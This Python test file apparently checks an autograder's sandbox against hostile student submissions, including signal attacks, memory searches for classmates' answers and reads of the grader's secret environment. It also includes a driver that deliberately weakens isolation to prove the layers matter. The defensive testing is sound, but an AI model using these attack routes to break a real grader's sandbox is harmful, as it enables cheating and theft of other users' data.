def test_no_ipc_object_left_on_the_host(main_batch):
    host = main_batch[3]
    assert host["new_keys"] == {"shm": set(), "msg": set(), "sem": set()}
    assert host["dev_shm"] == []
    assert not host["mq"]


def test_no_worker_outlives_the_batch(main_batch):
    assert main_batch[3]["stray"] == []


def test_nothing_written_outside_the_workers(main_batch):
    host = main_batch[3]
    assert host["planted"] == []
    assert host["new_tmp"] == []
    # The grader's own report of the attacker, not one it planted.
    record = json.loads((main_batch[2] / "write_outside" / "results.json").read_text())
    assert record["score"] == 0 and "planted" not in record


# -- batches 2 and 3: in subprocesses, started early --------------------------------

class Started:
    """A grading subprocess running in the background; :meth:`finish` waits."""

    def __init__(self, command: list[str], env: dict, cwd: Path, finish):
        self.proc = subprocess.Popen(command, env=env, cwd=cwd, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        self._finish, self._result = finish, None

    def finish(self, timeout: float = 900):
        if self._result is None:
            try:
                stdout, stderr = self.proc.communicate(timeout=timeout)
            except subprocess.TimeoutExpired:
                self.stop()
                raise
            self._result = self._finish(self.proc.returncode, stdout, stderr)
        return self._result

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()  # unshare --kill-child takes the namespace with it
            self.proc.communicate()


def start_grading(tmp: Path, course: Path, paths: list[Path], jobs: int = 1, disable: str = "",
                  public_only: bool = False, pid_namespace: bool = False,
                  python: list[str] | None = None) -> Started:
    """``autograder grade`` in a fresh process (so its zygote reads
    AUTOGRADER_DISABLE_LAYERS anew). Its result: the exit status, the output
    and {id: results.json plus "shown", every report}. ``pid_namespace``: in a
    PID namespace of its own, so that a signal attack that works can only hit
    the grading's own processes."""
    out = tmp / "out"
    env = dict(os.environ, AUTOGRADER_COURSE=str(course), AUTOGRADER_DISABLE_LAYERS=disable,
               SBX_RUN=NONCE, SBX_GRADER_SECRET=GRADER_SECRET, TMPDIR=str(tmp / "grader-tmp"))
    (tmp / "grader-tmp").mkdir(exist_ok=True)
    command = (python or [sys.executable, "-m", "autograder"]) + [
        "grade", "multihead_attention", *map(str, paths), "--out", str(out), "--jobs", str(jobs)]
    if public_only:
        command.append("--public-only")
    if pid_namespace:
        # The grader is not the namespace's init (which SIGKILL cannot reach).
        command = ["unshare", "--pid", "--fork", "--mount-proc", "--kill-child", "sh", "-c",
                   '"$@"; echo "grader-exit=$?"', "sh", *command]

    def finish(code: int, stdout: str, stderr: str) -> dict:
        results = {}
        for path in paths:
            sid = Path(path).stem
            try:
                results[sid] = json.loads((out / sid / "results.json").read_text())
                results[sid]["shown"] = everything_shown(out, sid)
            except (OSError, ValueError):
                results[sid] = None
        if pid_namespace:
            lines = [l for l in stdout.splitlines() if l.startswith("grader-exit=")]
            code = int(lines[-1].split("=")[1]) if lines else -1
        return {"exit": code, "stdout": stdout, "stderr": stderr, "results": results, "out": out}

    return Started(command, env, tmp, finish)


def grade_in_subprocess(*args, **kwargs) -> dict:
    return start_grading(*args, **kwargs).finish()


def processes_of_run(run: str) -> list[int]:
    """Processes whose environment carries ``SBX_RUN=run``."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if f"SBX_RUN={run}".encode() in Path(f"/proc/{entry}/environ").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


def can_unshare_pid() -> bool:
    if not shutil.which("unshare") or os.geteuid() != 0:
        return False
    return subprocess.run(["unshare", "--pid", "--fork", "--mount-proc", "true"],
                          capture_output=True, check=False).returncode == 0


def start_parallel(tmp: Path) -> Started:
    """Batch 2: the signal attacker and the memory searcher next to two
    correct submissions (one with the marker), ``--jobs 2``, in a PID namespace."""
    course = attack_course(tmp)
    subs = tmp / "subs"
    subs.mkdir()
    sources = {"a_classmate": classmate(MARKER), "b_correct": reference(),
               "environment": attack_source(ENVIRONMENT, carry_solution=False),
               "gc_search": gc_attacker(), "signals": signal_attacker()}
    for name, source in sources.items():
        (subs / f"{name}.py").write_text(source)
    return start_grading(tmp, course, sorted(subs.iterdir()), jobs=2, pid_namespace=True)


# For tests/prove_layers.py only: the zygote as it would be if it were forked
# from the grader instead of being a fresh interpreter (what the attacks on the
# grader's memory and environment need to succeed).
FORKED_ZYGOTE = r"""
def forked_from_this_process():
    import os, socket
    from autograder.sandbox import zygote
    grader_end, zygote_end = socket.socketpair()
    pid = os.fork()
    if pid == 0:
        grader_end.close()
        zygote._serve(zygote_end, huge_pages=False)
    zygote_end.close()
    forked = zygote.Zygote._attach(pid, grader_end)
    return forked
"""

LIBRARY_DRIVER = FORKED_ZYGOTE + r"""
import json, sys
from pathlib import Path
from autograder.grade import grade

tmp = Path(sys.argv[1])
first = grade("multihead_attention", sorted(map(str, (tmp / "first").iterdir())), tmp / "out1")
launcher = {}
if len(sys.argv) > 2 and sys.argv[2] == "dirty":  # for tests/prove_layers.py only
    launcher = {"launcher": forked_from_this_process()}  # now, after the first batch
second = grade("multihead_attention", sorted(map(str, (tmp / "second").iterdir())), tmp / "out2",
               **launcher)
print(json.dumps({r.submission: r.score for r in first.results + second.results}))
"""


def start_library(tmp: Path, dirty: bool = False) -> Started:
    """Batch 3: grade() twice in one fresh process, a correct classmate with
    another marker, then the memory searcher."""
    course = attack_course(tmp)
    for folder in ("first", "second"):
        (tmp / folder).mkdir()
    (tmp / "first" / "classmate_first.py").write_text(classmate(FIRST_BATCH_MARKER))
    (tmp / "second" / "gc_search.py").write_text(gc_attacker())
    env = dict(os.environ, AUTOGRADER_COURSE=str(course))
    env.pop("AUTOGRADER_DISABLE_LAYERS", None)

    def finish(code: int, stdout: str, stderr: str) -> dict:
        assert code == 0, stderr[-3000:]
        scores = json.loads(stdout.strip().splitlines()[-1])
        return {"scores": scores, "shown": everything_shown(tmp / "out2", "gc_search")}

    return Started([sys.executable, "-c", LIBRARY_DRIVER, str(tmp)] + (["dirty"] if dirty else []),
                   env, tmp, finish)


def library_twice(tmp: Path, dirty: bool = False) -> dict:
    return start_library(tmp, dirty).finish()


PARALLEL_TESTS = ("test_signals_do_not_reach_classmates_or_grader",
                  "test_memory_search_finds_no_classmate_with_two_jobs",
                  "test_grader_environment_does_not_reach_student_code",
                  "test_parallel_batch_leaves_no_process_or_file")
LIBRARY_TEST = "test_second_batch_in_one_process_finds_nothing_of_the_first"


@pytest.fixture(scope="module")
def background(request, tmp_path_factory):
    """Batches 2 and 3, started before batch 1 so that the three overlap (each
    grader waits on its workers much of the time); only those whose tests
    were selected."""
    assert not os.environ.get("AUTOGRADER_DISABLE_LAYERS"), "run the attack tests with every layer"
    selected = {item.originalname for item in request.session.items}
    jobs = {}
    if selected & set(PARALLEL_TESTS) and can_unshare_pid():
        jobs["parallel"] = start_parallel(tmp_path_factory.mktemp("sandbox_attacks_jobs2"))
    if LIBRARY_TEST in selected:
        jobs["library"] = start_library(tmp_path_factory.mktemp("sandbox_attacks_library"))
    yield jobs
    for job in jobs.values():
        job.stop()


@pytest.fixture(scope="module")
def parallel_batch(background):
    if "parallel" not in background:
        pytest.skip("needs root and unshare: a signal attack that worked would hit any process")
    run = background["parallel"].finish()
    run["left"] = processes_of_run(NONCE)
    # What the grading left in its TMPDIR: nothing but torch's own cache folder
    # ("torchinductor_<user>", made by the trusted grader when torch._dynamo is
    # imported); no worker's file, no folder of the sandbox.
    grader_tmp = run["out"].parent / "grader-tmp"
    run["grader_tmp"] = [str(p) for p in grader_tmp.rglob("*")
                         if not (p.name.startswith("torchinductor_") and p.is_dir()
                                 and p.stat().st_uid == 0 and not any(p.iterdir()))]
    return run


def test_signals_do_not_reach_classmates_or_grader(parallel_batch):
    run = parallel_batch
    assert run["exit"] == 0, run["stderr"][-3000:]
    results = run["results"]
    for sid in ("a_classmate", "b_correct"):
        assert results[sid]["score"] == 100, results[sid]["shown"][:3000]
    shown = results["signals"]["shown"]
    assert results["signals"]["score"] == 0, shown[shown.find(TAG):][:3000]
    assert TAG not in shown, shown[shown.find(TAG):][:3000]
    for word in ("kill: Operation not permitted", "pidfd_send_signal: Operation not permitted",
                 "rt_sigqueueinfo: Operation not permitted", "tgkill: Operation not permitted"):
        assert word in shown, shown[:3000]


def test_memory_search_finds_no_classmate_with_two_jobs(parallel_batch):
    result = parallel_batch["results"]["gc_search"]
    assert result["score"] == 0, result["shown"][result["shown"].find(TAG):][:3000]
    assert "".join(MARKER) not in result["shown"]
    assert TAG not in result["shown"]
    assert "searched" in result["shown"]


def test_grader_environment_does_not_reach_student_code(parallel_batch):
    result = parallel_batch["results"]["environment"]
    assert result["score"] == 0
    assert FAILED in result["shown"]
    assert GRADER_SECRET not in result["shown"], result["shown"][result["shown"].find(TAG):][:500]


def test_parallel_batch_leaves_no_process_or_file(parallel_batch):
    assert parallel_batch["left"] == []
    assert parallel_batch["grader_tmp"] == []


def test_second_batch_in_one_process_finds_nothing_of_the_first(background):
    run = background["library"].finish()
    assert run["scores"]["classmate_first"] == 100
    assert run["scores"]["gc_search"] == 0, run["shown"][run["shown"].find(TAG):][:3000]
    assert "".join(FIRST_BATCH_MARKER) not in run["shown"]
    assert TAG not in run["shown"], run["shown"][:3000]
    assert "searched" in run["shown"]
